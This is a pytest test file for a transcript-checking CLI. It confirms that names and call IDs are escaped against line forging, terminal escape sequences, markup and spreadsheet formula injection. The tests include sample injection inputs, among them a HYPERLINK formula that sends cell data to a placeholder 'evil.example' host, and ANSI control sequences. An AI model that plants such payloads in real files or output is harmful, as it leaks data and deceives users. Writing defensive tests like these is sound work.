"""Issue 12, what is printed and written about inputs: names cannot forge lines, move the cursor,
restyle the terminal or run in a spreadsheet (items 3, 5, 16); broken rule files, broken and
unreadable models are one line each (items 7, 16); `eval` names a broken transcript (item 16)."""

from __future__ import annotations

import shutil
import wave
from pathlib import Path

import pytest

from etiquette.printable import printable, shown

try:  # tests/ as a plain folder (pytest's default) or as a package
    from cli_helpers import REPO, one_line_per_input, read_summary, run, threat_data, without_root_powers, write_json
    from test_models import fake_model
except ImportError:
    from tests.cli_helpers import REPO, one_line_per_input, read_summary, run, threat_data, without_root_powers, write_json
    from tests.test_models import fake_model

RULES = REPO / "etiquette" / "rules"


def test_names_are_escaped_the_same_way_everywhere() -> None:
    assert shown("calls/a\nforged: b.wav") == "calls/a\\nforged: b.wav"
    assert shown("a\x1b[2Jb\tc\u2028d\\e") == "a\\x1b[2Jb\\tc\\u2028d\\\\e"
    assert shown("caf\udce9.wav") == "caf\\xe9.wav"  # a byte of a file name that is not UTF-8
    assert shown("señor 통화.wav") == "señor 통화.wav"
    line = shown("a\nb") + ": no such file"
    assert printable(line) == line == "a\\nb: no such file"  # a no-op on what is shown already
    assert printable("x\x07y\rz") == "x\\x07y\\rz"


def test_a_newline_in_a_file_name_cannot_forge_a_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Item 16: `a\\nforged: ...` printed a second, false error line."""
    calls = tmp_path / "calls"
    calls.mkdir()
    write_json(calls / "x\nforged.wav: no such file or folder\ny.transcript.json", "not json")
    write_json(calls / "z\x1b[2J\x1b[31m.transcript.json", "not json")
    write_json(calls / "good.transcript.json", threat_data("good"))
    result = run(capsys, "check", calls, "--out", tmp_path / "out")
    assert result.code == 3
    one_line_per_input(result, [f"{calls}/x\\nforged.wav: no such file or folder\\ny.transcript.json",
                                f"{calls}/z\\x1b[2J\\x1b[31m.transcript.json"])
    assert "\x1b" not in result.err + result.out
    inputs = {row["input"] for row in read_summary(tmp_path / "out")}
    assert f"{calls}/z\\x1b[2J\\x1b[31m.transcript.json" in inputs


def test_call_ids_cannot_restyle_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Item 5: ESC sequences in a call_id reached the terminal raw; `[reverse]x` was read as rich markup."""
    calls = tmp_path / "calls"
    calls.mkdir()
    write_json(calls / "esc.transcript.json", threat_data("esc\x1b[31mred\x1b]0;title\x07"))
    write_json(calls / "markup.transcript.json", threat_data("[reverse]x[blink]"))
    write_json(calls / "[bold]broken.transcript.json", "not json")
    result = run(capsys, "check", calls, "--out", tmp_path / "out")
    assert result.code == 3
    assert "\x1b" not in result.out + result.err and "\x07" not in result.out + result.err
    assert "[reverse]x[blink]" in result.out  # printed as it is: in the table and among the worst calls
    one_line_per_input(result, [f"{calls}/[bold]broken.transcript.json", f"{calls}/esc.transcript.json"])
    assert "the call id holds control characters" in result.err


def test_usage_errors_escape_what_was_typed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = write_json(tmp_path / "good.transcript.json", threat_data("good"))
    afile = tmp_path / "a\x1b[31mfile\nforged"
    afile.write_text("")
    for args in (["--out", afile], ["--out", tmp_path / "out", "--model", afile.with_name("no\x1b[2Jmodel")],
                 ["--out", tmp_path / "out", "--rules", tmp_path / "no\nrules"], ["--out", tmp_path / "out", "--bogus\x1b[2J"]):
        result = run(capsys, "check", good, *args)
        assert result.code == 2, args
        assert "\x1b" not in result.err and "forged" not in "".join(line for line in result.err_lines if line.startswith("forged"))
        assert len([line for line in result.err_lines if line.startswith("Error")]) == 1


def test_models_list_escapes_folder_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    odd = tmp_path / "vosk-model-small-ko\x1b[2J[reverse]x"
    odd.mkdir()
    fake_model(odd)
    result = run(capsys, "models", "list", "--dir", tmp_path)
    assert result.code == 0
    assert "\x1b" not in result.out
    assert "vosk-model-small-ko\\x1b[2J[revers" in result.out  # escaped, and its markup shown as text


# ------------------------------------------------------------------ summary.csv


def test_spreadsheet_formulas_are_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch) -> None:
    """Item 3: `call_id` reached summary.csv as =HYPERLINK(...), @SUM(1,1), +1+1."""
    formulas = ['=HYPERLINK(CONCAT("https:","evil.example?",A1),"open")', "@SUM(1,1)", "+1+1", "-2+3"]
    for n, formula in enumerate(formulas):
        write_json(tmp_path / f"f{n}.transcript.json", threat_data(formula))
    monkeypatch.chdir(tmp_path)
    result = run(capsys, "check", tmp_path, "=1+1.wav", "--out", tmp_path / "out", "--quiet")
    assert result.code == 3
    rows = read_summary(tmp_path / "out")
    by_id = {row["call_id"]: row for row in rows}
    for formula in formulas:
        row = by_id["'" + formula]
        assert row["report"] == "'" + formula + ".report.json"
    assert by_id[""]["input"] == "'=1+1.wav"  # a missing input named like a formula
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


# ------------------------------------------------------------------ rule files


@pytest.mark.parametrize("breakage, message", [
    (lambda text: "cues = [1]\n" + text.replace("[cues.", "[unused_cues."), "en.toml: 'cues' must be a table of tables"),
    (lambda text: text.replace("[[rules]]", "[[unused_rules]]"), "en.toml: no [[rules]] tables"),
    (lambda text: "vocab = 3\n" + text.replace("[vocab", "[unused_vocab"), "en.toml: 'vocab' must be a table of word lists"),
])
def test_a_broken_rule_file_is_one_line_naming_file_and_key(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                             breakage, message: str) -> None:
    """Items 7 and 16: `cues = [1]` ended with exit 4; errors named Python internals once per input."""
    rules = tmp_path / "rules"
    shutil.copytree(RULES, rules)
    (rules / "en.toml").write_text(breakage((RULES / "en.toml").read_text(encoding="utf-8")), encoding="utf-8")
    calls = [write_json(tmp_path / f"c{n}.transcript.json", threat_data(f"c{n}")) for n in range(3)]
    result = run(capsys, "check", *calls, "--out", tmp_path / "out", "--rules", rules)
    assert result.code == 2
    assert result.err_lines == [f"etiquette: {rules / 'en.toml'}: {message.split(': ', 1)[1]}"]


# ------------------------------------------------------------------ speech models


def _wav(path: Path, seconds: float = 1.0) -> Path:
    with wave.open(str(path), "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(16000)
        out.writeframes(b"\x10\x00\xf0\xff" * int(8000 * seconds))
    return path


def test_kaldis_own_error_lines_never_reach_the_user(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """Item 16: a model Kaldi cannot read printed `ERROR (VoskAPI:...)` beside our line."""
    from etiquette.cli import main

    model = fake_model(tmp_path / "model")
    (model / "am" / "final.mdl").write_bytes(b"garbage, not a Kaldi model")
    audio = _wav(tmp_path / "call.wav")
    good = write_json(tmp_path / "good.transcript.json", threat_data("good"))
    code = main(["check", str(audio), str(good), "--out", str(tmp_path / "out"), "--model", str(model), "--language", "ko"])
    err = capfd.readouterr().err
    assert code == 2
    assert "VoskAPI" not in err and "ERROR" not in err
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines == [f"{audio}: Vosk could not load the model in {model}: Failed to create a model "
                     '(Expected token "<TransitionModel>", got instead "garbage,".)'], err
    assert [row["status"] for row in read_summary(tmp_path / "out")] == ["error", "ok"]


def test_an_unreadable_model_folder_is_a_model_error(tmp_path: Path) -> None:
    """Item 7: an unreadable model folder ended with exit 4; it is exit 2 with a model message, and the
    transcripts are still checked."""
    model = fake_model(tmp_path / "model")
    (model / "am").chmod(0)
    audio = _wav(tmp_path / "call.wav")
    good = write_json(tmp_path / "good.transcript.json", threat_data("good"))
    try:
        done = without_root_powers(["check", str(audio), str(good), "--out", str(tmp_path / "out"), "--model", str(model),
                                     "--language", "ko", "--quiet"], tmp_path)
    finally:
        (model / "am").chmod(0o755)
    assert done.returncode == 2, done.stderr
    assert done.stderr.splitlines() == [f"{audio}: cannot read the model folder {model} (from --model): Permission "
                                        "denied; check its permissions"]
    assert [row["status"] for row in read_summary(tmp_path / "out")] == ["error", "ok"]


# ------------------------------------------------------------------ eval


def test_eval_names_a_broken_transcript(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_json(tmp_path / "good.transcript.json", threat_data("good"))
    write_json(tmp_path / "deep.transcript.json", "[" * 1000 + "]" * 1000)
    write_json(tmp_path / "odd\nname.transcript.json", "{")
    write_json(tmp_path / "labels.json", {"good": {"expect": ["aggressive_language"], "language": "en"}})
    result = run(capsys, "eval", tmp_path)
    assert result.code == 0
    assert sorted(result.err_lines) == [f"{tmp_path}/deep.transcript.json: not a transcript: its JSON is nested too deeply",
                                        f"{tmp_path}/odd\\nname.transcript.json: not valid JSON (line 1, column 2: "
                                        "Expecting property name enclosed in double quotes)"]
